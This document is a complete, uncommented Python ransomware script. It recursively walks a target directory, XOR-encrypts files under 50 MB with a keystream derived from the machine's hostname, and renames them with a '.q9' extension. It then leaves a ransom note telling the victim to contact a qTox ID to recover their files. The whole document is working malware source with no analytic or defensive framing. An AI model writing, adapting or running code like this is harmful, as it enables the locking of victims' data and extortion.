import os, sys, hashlib, socket
H = socket.gethostname()
K = hashlib.sha256(b"q9!x" + H.encode()).digest()
ID = hashlib.md5(K).hexdigest()[:12]
TOX = "7E2F0A9C4B1D8E3F6A5C2B9D0E7F4A1C8B3D6E9F2A5C0B7D4E1F8A3C6B9D2E5F0A7C4B1D8E3F"

def ks(n, iv):
    out, c = bytearray(), 0
    while len(out) < n:
        out += hashlib.sha256(K + iv + c.to_bytes(8, "big")).digest()
        c += 1
    return bytes(out[:n])

def go(p):
    if p.endswith(".q9") or os.path.getsize(p) > 50 << 20:
        return
    with open(p, "rb") as f:
        d = f.read()
    iv = os.urandom(16)
    x = bytes(a ^ b for a, b in zip(d, ks(len(d), iv)))
    with open(p + ".t", "wb") as f:
        f.write(iv + x)
    os.replace(p + ".t", p)
    os.rename(p, p + ".q9")

top = sys.argv[1] if len(sys.argv) > 1 else os.getcwd()
for r, _, fs in os.walk(top):
    for n in fs:
        try:
            go(os.path.join(r, n))
        except OSError:
            pass
open(os.path.join(top, "__READ__.txt"), "w").write(
    "%s: want your stuff back? add us on qTox %s and send id %s\n" % (H, TOX, ID))
